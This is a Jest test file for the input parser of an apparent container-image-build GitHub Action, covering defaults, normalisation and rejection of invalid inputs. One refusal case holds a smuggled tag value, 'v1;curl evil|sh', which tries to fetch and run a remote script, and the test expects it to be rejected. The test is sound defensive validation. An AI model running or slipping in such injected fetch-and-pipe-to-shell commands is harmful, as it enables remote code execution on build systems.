import { describe, expect, test } from '@jest/globals'
import type { Tag } from '../../src/domain/oci/reference.ts'
import {
  type ActionInputs,
  parseSelection,
  readActionInputs,
} from '../../src/entry/action-inputs.ts'

const read = (inputs: Readonly<Record<string, string>>) =>
  readActionInputs(name => inputs[name] ?? '')

/** What is read when nothing is given. */
const NOTHING: ActionInputs = {
  command: 'run',
  config: '.github/base-images.yml',
  images: undefined,
  registry: undefined,
  tag: undefined,
  force: false,
  forceTag: false,
  push: 'auto',
  pushPullRequests: false,
  trustPullRequests: false,
  fanOut: { isWanted: false, runners: [], plan: undefined, leg: undefined, legReports: undefined },
  load: false,
  dryRun: false,
  deletes: false,
  gitHubToken: undefined,
  reportFile: undefined,
  noCache: false,
  failFast: false,
  summary: false,
  builder: undefined,
  driverOpts: [],
  buildkitdConfig: undefined,
  build: {
    platforms: [],
    buildArgs: [],
    secrets: [],
    secretFiles: [],
    secretEnvs: [],
    ssh: [],
    checks: [],
    refresh: undefined,
    network: undefined,
    cacheFrom: [],
    cacheTo: [],
    carryCaches: 'auto',
    provenance: undefined,
    sbom: undefined,
  },
  sizes: {
    compareTo: [],
    budgets: [],
    allowLabel: 'allow-size-increase',
    writeComment: false,
    packages: 'auto',
  },
  scans: { now: [], before: [] },
  single: undefined,
}

describe('inputs', () => {
  test.each<{ given: Readonly<Record<string, string>>; change: Partial<ActionInputs> }>([
    { given: {}, change: {} },
    { given: { command: 'plan' }, change: { command: 'plan' } },
    { given: { command: ' Plan ' }, change: { command: 'plan' } },
    { given: { push: 'True' }, change: { push: 'true' } },
    { given: { push: 'FALSE' }, change: { push: 'false' } },
    {
      given: { config: 'x.yml', registry: ' ghcr.io/a ' },
      change: { config: 'x.yml', registry: 'ghcr.io/a' },
    },
    { given: { force: 'TRUE', 'no-cache': 'False' }, change: { force: true } },
    {
      given: {
        'compare-to': 'v1.2.3',
        'size-budget': 'app warn: 5 MB',
        'size-budget-label': 'big',
        'write-comment': 'true',
        packages: 'False',
      },
      change: {
        sizes: {
          compareTo: [{ image: undefined, repository: undefined, reference: 'v1.2.3' as Tag }],
          budgets: [
            {
              image: undefined,
              rule: { measure: 'app', limit: { kind: 'absolute', bytes: 5e6 }, level: 'warn' },
            },
          ],
          allowLabel: 'big',
          writeComment: true,
          packages: 'false',
        },
      },
    },
    { given: { images: 'bases' }, change: { images: { kind: 'bases' } } },
    {
      given: { 'driver-opts': 'image=a,b\nnetwork=host' },
      change: { driverOpts: ['image=a,b', 'network=host'] },
    },
    {
      given: { tag: '3.12', 'force-tag': 'true', load: 'true' },
      change: { tag: '3.12', forceTag: true, load: true },
    },
    { given: { 'github-token': 'x' }, change: { gitHubToken: 'x' } },
    {
      given: { 'scan-results': 'a.json\nscans/{b,c}.json', 'scan-results-before': 'old.json' },
      change: { scans: { now: ['a.json', 'scans/{b,c}.json'], before: ['old.json'] } },
    },
  ])('$given', ({ given, change }) => {
    expect(read(given)).toEqual({ ...NOTHING, ...change })
  })

  test.each<{ given: Readonly<Record<string, string>>; change: Partial<ActionInputs['build']> }>([
    {
      given: { platforms: 'linux/amd64,linux/arm64' },
      change: { platforms: ['linux/amd64', 'linux/arm64'] },
    },
    { given: { 'build-args': 'A=1,2\n\nB=x=y\n' }, change: { buildArgs: ['A=1,2', 'B=x=y'] } },
    { given: { secrets: 'id=a,b' }, change: { secrets: ['id=a,b'] } },
    { given: { secrets: '"id=two\nlines"' }, change: { secrets: ['id=two\nlines'] } },
    { given: { ssh: 'default\nkey=./id' }, change: { ssh: ['default', 'key=./id'] } },
    {
      given: { checks: 'python --version\ntrue, true' },
      change: { checks: ['python --version', 'true, true'] },
    },
    { given: { refresh: ' weekly ' }, change: { refresh: 'weekly' } },
    { given: { refresh: 'every 2 days' }, change: { refresh: { kind: 'days', days: 2 } } },
    { given: { 'secret-envs': 'a=A,b=B' }, change: { secretEnvs: ['a=A', 'b=B'] } },
    {
      given: { 'cache-from': 'type=gha,scope=x', 'cache-to': 'type=inline' },
      change: { cacheFrom: ['type=gha,scope=x'], cacheTo: ['type=inline'] },
    },
    {
      given: { network: 'host', provenance: 'mode=min', sbom: 'true' },
      change: { network: 'host', provenance: 'mode=min', sbom: 'true' },
    },
  ])('of the build: $given', ({ given, change }) => {
    expect(read(given).build).toEqual({ ...NOTHING.build, ...change })
  })

  test('`file` and `tags` describe one image as docker/build-push-action does', () => {
    const { single } = read({
      context: 'app',
      file: 'app/Dockerfile.x',
      tags: 'ghcr.io/acme/shop:1\nghcr.io/acme/shop:2',
      labels: 'a=b',
    })
    expect(single?.('repo')).toMatchObject({
      tags: ['1', '2'],
      image: { name: 'shop', file: 'app/Dockerfile.x', context: 'app', labels: { a: 'b' } },
    })
    expect(read({ file: 'Dockerfile' }).single?.('repo')).toMatchObject({
      tags: [],
      image: { name: 'repo', file: 'Dockerfile', context: '.' },
    })
    expect(read({ context: 'app', target: 'x' }).single).toBeUndefined()
  })

  test.each([
    { given: { push: 'yes' }, message: 'the input push is "yes"', remedy: 'auto, true or false' },
    { given: { push: 'tRUE' }, message: 'the input push is "tRUE"', remedy: 'auto, true or false' },
    {
      given: { tag: 'v1;curl evil|sh' },
      message: 'the input tag: "v1;curl evil|sh" is not a tag',
      remedy: 'letters, digits',
    },
    {
      given: { tag: 'fp-1' },
      message: 'the input tag: the tag "fp-1" is reserved',
      remedy: 'does not start with',
    },
    { given: { command: 'bulid' }, message: 'the input command is "bulid"', remedy: 'run, plan' },
    { given: { force: 'yes' }, message: 'the input force is "yes"', remedy: 'true or false' },
    { given: { summary: '1' }, message: 'the input summary is "1"', remedy: 'true or false' },
    { given: { load: 'tRUE' }, message: 'the input load is "tRUE"', remedy: 'true or false' },
  ])('$given is refused with what is allowed', ({ given, message, remedy }) => {
    expect(() => read(given as unknown as Record<string, string>)).toThrow(
      expect.objectContaining({ message, remedy: expect.stringContaining(remedy), exitCode: 2 }),
    )
  })

  test.each([
    { text: '', selection: undefined },
    { text: ' \n', selection: undefined },
    { text: 'all', selection: { kind: 'all' } },
    { text: 'apps', selection: { kind: 'apps' } },
    { text: 'a, b\nc', selection: { kind: 'names', names: ['a', 'b', 'c'] } },
    { text: 'bases,a', selection: { kind: 'names', names: ['bases', 'a'] } },
  ])('images $text', ({ text, selection }) => {
    expect(parseSelection(text)).toEqual(selection)
  })
})
